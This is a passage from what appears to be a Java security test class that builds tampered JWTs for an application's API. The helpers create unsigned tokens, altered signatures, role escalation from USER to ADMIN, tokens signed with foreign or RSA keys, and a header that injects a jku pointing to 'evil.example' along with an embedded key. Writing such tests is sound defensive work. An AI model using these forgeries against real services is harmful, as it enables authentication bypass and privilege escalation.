        return "1\r\n{\r\n" + chunk.repeat(bytes / size) + "0\r\n\r\n";
    }

    private String genuine() {
        return api.token(Role.USER);
    }

    private String keyId() {
        String header = decoded(genuine().split("\\.", 3)[0]);
        return header.replaceAll(".*\"kid\":\"([^\"]+)\".*", "$1");
    }

    private String withHeader(String header, String signature) {
        return encoded(header) + "." + genuine().split("\\.", 3)[1] + "." + signature;
    }

    private String withoutSignature() {
        String[] parts = genuine().split("\\.", 3);
        return parts[0] + "." + parts[1] + ".";
    }

    private String withSignature(String signature) {
        String[] parts = genuine().split("\\.", 3);
        return parts[0] + "." + parts[1] + "." + signature;
    }

    private String otherSignature() {
        String signature = genuine().split("\\.", 3)[2];
        return (signature.startsWith("A") ? "B" : "A") + signature.substring(1);
    }

    /** A payload of another form, signed with our secret. */
    private String withPayload(String payload) {
        return Jwts.builder()
                .header()
                .keyId(keyId())
                .and()
                .content(payload)
                .signWith(Keys.hmacShaKeyFor(secret()), Jwts.SIG.HS256)
                .compact();
    }

    private String signedWith(byte[] secret) {
        String[] parts = genuine().split("\\.", 3);
        return signed(decoded(parts[0]), decoded(parts[1]).replace("USER", "ADMIN"), secret);
    }

    /** By hand, as the library would refuse such keys and headers. */
    private static String signed(String header, String payload, byte[] secret) {
        String signed = encoded(header) + "." + encoded(payload);
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(secret, "HmacSHA256"));
            byte[] signature = mac.doFinal(signed.getBytes(StandardCharsets.US_ASCII));
            return signed + "." + Base64.getUrlEncoder().withoutPadding().encodeToString(signature);
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private byte[] secret() {
        return environment.getRequiredProperty("tippmix.security.jwt.secret").getBytes(StandardCharsets.UTF_8);
    }

    private String promoted() {
        String[] parts = genuine().split("\\.", 3);
        return parts[0] + "." + encoded(decoded(parts[1]).replace("USER", "ADMIN")) + "." + parts[2];
    }

    private String signedWithRsa() {
        KeyPair pair = Jwts.SIG.RS256.keyPair().build();
        return claims().signWith(pair.getPrivate(), Jwts.SIG.RS256).compact();
    }

    private String signedByStranger() {
        return claims().signWith(Jwts.SIG.HS256.key().build(), Jwts.SIG.HS256).compact();
    }

    private String withOwnKey() {
        return withHeader(
                "{\"alg\":\"HS256\",\"jku\":\"https://evil.example/keys\",\"jwk\":{\"kty\":\"oct\",\"k\":\""
                        + encoded("k".repeat(32)) + "\"}}",
                encoded("s".repeat(32)));
    }

    private String token(UnaryOperator<JwtBuilder> change) {
        return token(change, false);
    }

    /** A token like ours, changed and signed with our secret. */
    private String token(UnaryOperator<JwtBuilder> change, boolean longer) {
        byte[] secret = secret();
        JwtBuilder builder = change.apply(claims());
        return longer
                ? builder.signWith(Keys.hmacShaKeyFor(secret), Jwts.SIG.HS512).compact()
                : builder.signWith(Keys.hmacShaKeyFor(secret), Jwts.SIG.HS256).compact();
    }

    private JwtBuilder claims() {
        return Jwts.builder()
                .header()
                .keyId(keyId())
                .and()
                .issuer("tippmixmentor")
                .audience()
                .add("tippmixmentor-api")
                .and()
                .subject(UUID.randomUUID().toString())
                .claim("sid", UUID.randomUUID().toString())
                .claim("role", "USER")
                .claim("username", "ann")
                .expiration(Date.from(Instant.now().plusSeconds(600)));
    }

    private static String decoded(String part) {
        return new String(Base64.getUrlDecoder().decode(part), StandardCharsets.UTF_8);
    }

    private static String encoded(String text) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
